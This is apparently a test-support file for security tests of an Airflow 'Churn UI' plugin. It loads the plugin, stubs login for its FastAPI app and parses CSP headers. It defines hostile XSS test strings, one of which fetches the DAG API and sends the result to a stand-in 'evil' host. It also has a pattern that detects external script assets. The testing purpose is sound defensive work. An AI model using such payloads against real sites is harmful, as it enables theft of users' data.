"""The Churn UI plugin (plugins/churn_ui.py) loaded as a module, its FastAPI app with Airflow's login stubbed, and
the hostile values and CSP parsing the UI security tests share."""

from __future__ import annotations

import importlib.util
import re
from types import ModuleType

from tests.support import REPO_ROOT

HOSTILE = "<img src=x onerror=alert(1)>"
STEAL = "<script>fetch('/api/v2/dags').then(r => r.text()).then(t => new Image().src = '//evil/?' + t)</script>"
RUN_KEY = "2026-11-20"
EXTERNAL_ASSET = re.compile(r"<(?:script|link)\b[^>]*\b(?:src|href)\s*=\s*[\"']?(?:https?:)?//", re.I)


def load_plugin(name: str) -> ModuleType:
    """plugins/churn_ui.py imported under ``name`` (the plugins folder is no package)."""
    spec = importlib.util.spec_from_file_location(name, REPO_ROOT / "plugins" / "churn_ui.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def http_app(monkeypatch, name: str = "churn_ui_http"):
    """The plugin's FastAPI app with Airflow's access check and user stubbed (the browser test covers the real
    login); returns (module, app)."""
    import airflow.api_fastapi.core_api.security as security

    monkeypatch.setattr(security, "requires_access_dag", lambda *a, **k: (lambda: None))
    module = load_plugin(name)
    app = module._build_app()

    class User:
        def get_name(self) -> str:
            return "alice"

    app.dependency_overrides[security.get_user] = lambda: User()
    return module, app


def directives(policy: str) -> dict[str, list[str]]:
    """A CSP header as {directive: [tokens]} (what a browser parses)."""
    out: dict[str, list[str]] = {}
    for part in policy.split(";"):
        words = part.split()
        if words:
            out.setdefault(words[0].lower(), words[1:])
    return out
